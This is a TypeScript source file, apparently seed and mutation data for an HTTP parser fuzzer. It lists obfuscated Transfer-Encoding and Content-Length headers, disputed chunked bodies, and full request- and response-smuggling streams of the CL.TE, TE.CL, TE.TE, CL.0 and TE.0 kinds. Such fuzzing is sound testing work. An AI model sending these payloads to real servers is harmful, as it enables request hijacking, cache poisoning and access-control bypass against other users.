/**
 * What has been used to make two HTTP implementations disagree about where a message ends: head fields that are framing to one and nothing to
 * the other, bodies that end twice, and whole attacks of the known families. The mutator puts pieces in, the seeds hold the whole ones.
 */

const smuggled = 'GET /smuggled HTTP/1.1\r\nHost: a\r\nX-Ignored: '

/** Lines for the head of a message whose body is chunked, or not. */
export const framingTricks: readonly string[] = [
  // TE.TE: one of the two does not recognise it
  ...[
    'Transfer-Encoding: xchunked\r\n',
    'Transfer-Encoding : chunked\r\n',
    'Transfer-Encoding:\tchunked\r\n',
    'Transfer-Encoding:\x0bchunked\r\n',
  ],
  ...[
    'Transfer-Encoding: chunked\x0b\r\n',
    'Transfer-Encoding: chunked\x00\r\n',
    'Transfer-Encoding: "chunked"\r\n',
    'Transfer-Encoding: chu\xadnked\r\n',
  ],
  ...[
    'X: x\nTransfer-Encoding: chunked\r\n',
    'X: x\rTransfer-Encoding: chunked\r\n',
    ' Transfer-Encoding: chunked\r\n',
    '\tTransfer-Encoding: chunked\r\n',
  ],
  ...['Transfer-Encoding\r\n: chunked\r\n', 'Transfer-Encoding:\r\n chunked\r\n', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n'],
  ...[
    'Transfer-Encoding: x\r\nTransfer-Encoding: chunked\r\n',
    'Transfer-Encoding: chunked, identity\r\n',
    'Transfer-Encoding: identity, chunked\r\n',
  ],
  ...['Transfer-Encoding: chunked;\r\n', 'Transfer-Encoding: ,chunked\r\n', 'Transfer-Encoding: chunked,\r\n', 'Transfer-Encoding:\r\n'],
  ...[
    'Transfer_Encoding: chunked\r\n',
    'Transfer-Encod\xa1ng: chunked\r\n',
    '\x00Transfer-Encoding: chunked\r\n',
    'Transfer-Encoding\x00: chunked\r\n',
  ],
  // CL.CL, and lengths that are read in more than one way
  ...[
    'Content-Length: 5\r\nContent-Length: 0\r\n',
    'Content-Length: 0\r\nContent-Length: 5\r\n',
    'Content-Length: 5, 0\r\n',
    'Content-Length: 5 0\r\n',
  ],
  ...[
    'Content-Length: \x0b5\r\n',
    'Content-Length: 5\x00\r\n',
    'Content-Length: 0x5\r\n',
    'Content-Length: 5e0\r\n',
    'Content-Length: \xd9\xa5\r\n',
  ],
  ...[
    'Content_Length: 5\r\n',
    'Content-Length : 5\r\n',
    'Content-Length:\r\n 5\r\n',
    'Content-Length\r\n: 5\r\n',
    'X: x\nContent-Length: 5\r\n',
  ],
  // Fields that make another field go away
  ...[
    'Connection: content-length\r\n',
    'Connection: transfer-encoding\r\n',
    'Connection: close, Content-Length\r\n',
    'Connection: host\r\n',
  ],
  // Who sends when
  ...[
    'Expect: 100-continue\r\n',
    'Expect: 100-Continue, x\r\n',
    'Expect: y 100-continue\r\n',
    'Expect:\r\n',
    'Expect: \r\n 100-continue\r\n',
  ],
  // Where it goes
  ...[
    'Host: a\r\nHost: b\r\n',
    'Host: a, b\r\n',
    'Host: a@b\r\n',
    'Host: a\r\n b\r\n',
    'Host : a\r\n',
    'Host: a#\r\n',
    'Host: a/\r\n',
    'Host:\ta\x0b\r\n',
  ],
  ...['Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n'],
  ...['X-HTTP-Method-Override: HEAD\r\n', 'Content-Encoding: chunked\r\n', 'Trailer: Content-Length\r\n', 'TE: chunked\r\n'],
]

/** Chunked bodies whose end is in dispute, most of them by what stands in a size line. */
export const chunkTricks: readonly string[] = [
  // Line ends inside of extensions: TERM.EXT and EXT.TERM
  ...[
    '2;\nxx\r\n0\r\n\r\n',
    '2;\rxx\r\n0\r\n\r\n',
    '2;a\nxx\r\n4e\r\n0\r\n\r\n',
    '2;a=b\n\r\nxx\r\n0\r\n\r\n',
    '2;a="\r\n"xx\r\n0\r\n\r\n',
    '2;a="\n"\r\nxx\r\n0\r\n\r\n',
  ],
  // Line ends behind data: TERM.SPILL and SPILL.TERM
  ...[
    '5\r\nhelloXX0\r\n\r\n',
    '5\r\nhello\n0\r\n\r\n',
    '5\r\nhello\r0\r\n\r\n',
    '5\r\nhello0\r\n\r\n',
    '5\r\nhello\r\r\n0\r\n\r\n',
    '5\r\nhello \r\n0\r\n\r\n',
  ],
  // One octet for two
  ...[
    '2\r\r\nxx\r\n0\r\n\r\n',
    '2\n\nxx\r\n0\r\n\r\n',
    '2\rxx\r\n0\r\n\r\n',
    '0\r\n\r',
    '0\n\n',
    '0\r\n\n',
    '0\n\r\n',
    '0\r\r\n\r\n',
    '0\r\n\r\r\n',
  ],
  // Sizes
  ...[
    '0x2\r\nxx\r\n0\r\n\r\n',
    '2_0\r\nxx\r\n0\r\n\r\n',
    '+2\r\nxx\r\n0\r\n\r\n',
    ' 2\r\nxx\r\n0\r\n\r\n',
    '2 \r\nxx\r\n0\r\n\r\n',
    '2\t;a\r\nxx\r\n0\r\n\r\n',
    '2h\r\nxx\r\n0\r\n\r\n',
  ],
  ...[
    '10000000000000002\r\nxx\r\n0\r\n\r\n',
    '100000002\r\nxx\r\n0\r\n\r\n',
    '-2\r\nxx\r\n0\r\n\r\n',
    '\r\n2\r\nxx\r\n0\r\n\r\n',
    '\r\n0\r\n\r\n',
    ';a\r\n0\r\n\r\n',
  ],
  // Ends that are none, or come twice
  ...[
    '00\r\n\r\n0\r\n\r\n',
    '0;a\r\n\r\n',
    '0\r\nContent-Length: 9\r\n\r\n',
    '0\r\nTransfer-Encoding: chunked\r\n\r\n',
    '0\r\n X: y\r\n\r\n',
    '0\r\nX\r\n\r\n',
    '0\r\nX: y\n\r\n',
  ],
]

/** Whole attacks, each a stream of a client. */
export const attacks: readonly string[] = [
  // CL.TE and TE.CL
  'POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG',
  'POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n12\r\nGPOST / HTTP/1.1\r\n\r\n0\r\n\r\n',
  // TE.TE
  `POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nTransfer-encoding: cow\r\nContent-Length: 4\r\n\r\n5c\r\n${smuggled}\r\n0\r\n\r\n`,
  // CL.0 and 0.CL: a body that one of the two does not expect
  `GET / HTTP/1.1\r\nHost: a\r\nContent-Length: ${smuggled.length}\r\n\r\n${smuggled}GET / HTTP/1.1\r\nHost: a\r\n\r\n`,
  `POST / HTTP/1.1\r\nHost: a\r\nContent-Length: ${smuggled.length}\r\n\r\n${smuggled}GET /next HTTP/1.1\r\nHost: a\r\n\r\n`,
  `OPTIONS / HTTP/1.1\r\nHost: a\r\nContent-Length : 7\r\n\r\nGET /404 HTTP/1.1\r\nX: ${smuggled}\r\n\r\n`,
  // TE.0
  `OPTIONS / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n${smuggled.length.toString(16)}\r\n${smuggled}\r\n0\r\n\r\nEMPTY_LINE\r\n\r\n`,
  // Chunk extensions and line ends
  'POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n2;\nxx\r\n45\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n\r\n\r\n0\r\n\r\n',
  'POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nAAAAAXX2\r\n45\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n\r\n\r\n0\r\n\r\n',
  'GET / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n3\n\r\nABC\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n',
  // Expect
  `GET / HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nContent-Length: ${smuggled.length}\r\n\r\n${smuggled}\r\n\r\nGET / HTTP/1.1\r\nHost: a\r\n\r\n`,
  `POST / HTTP/1.1\r\nHost: a\r\nExpect: y 100-continue\r\nContent-Length: ${smuggled.length}\r\n\r\n${smuggled}\r\n\r\n`,
  'HEAD / HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: a\r\n\r\n',
  // Hop-by-hop abuse
  'POST / HTTP/1.1\r\nHost: a\r\nConnection: Content-Length\r\nContent-Length: 34\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n',
  'GET / HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 777\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n',
  // Request lines
  'GET /a HTTP/1.1 HTTP/1.1\r\nHost: a\r\n\r\nGET http://b/ HTTP/1.1\r\nHost: a\r\n\r\nGET //b/ HTTP/1.1\r\nHost: a\r\n\r\n',
  'GET / HTTP/1.1\nHost: a\n\nGET /smuggled HTTP/1.1\nHost: a\n\n',
  // Pipelines, in which answers could be shifted
  'GET /1 HTTP/1.1\r\nHost: a\r\n\r\nHEAD /2 HTTP/1.1\r\nHost: a\r\n\r\nPOST /3 HTTP/1.1\r\nHost: a\r\nContent-Length: 1\r\n\r\n3GET /4 HTTP/1.1\r\nHost: a\r\n\r\n',
  'POST /1 HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n1\r\n1\r\n0\r\nX: 1\r\n\r\nPUT /2 HTTP/1.1\r\nHost: a\r\nContent-Length: 2\r\n\r\n22DELETE /3 HTTP/1.1\r\nHost: a\r\n\r\n',
]

/** The same from the other side: streams of an origin that make a proxy and its client disagree. */
export const responseAttacks: readonly string[] = [
  'HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 8\r\n\r\nsmuggled',
  'HTTP/1.1 200 OK\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nHTTP/1.1 200 OK\r\n\r\n',
  'HTTP/1.1 304 Not Modified\r\nContent-Length: 40\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n',
  'HTTP/1.1 204 No Content\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n',
  'HTTP/1.1 103 Early Hints\r\nContent-Length: 5\r\n\r\nhelloHTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n',
  'HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nokHTTP/1.1 100 Continue\r\n\r\n',
  'HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n2;\nok\r\n0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n',
  'HTTP/1.1 200 OK\r\nConnection: Transfer-Encoding\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nok\r\n0\r\n\r\n',
  'HTTP/1.1 426 Upgrade Required\r\nUpgrade: foo\r\nConnection: Upgrade\r\nContent-Length: 0\r\n\r\n',
  'HTTP/1.0 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nok\r\n0\r\n\r\n',
]
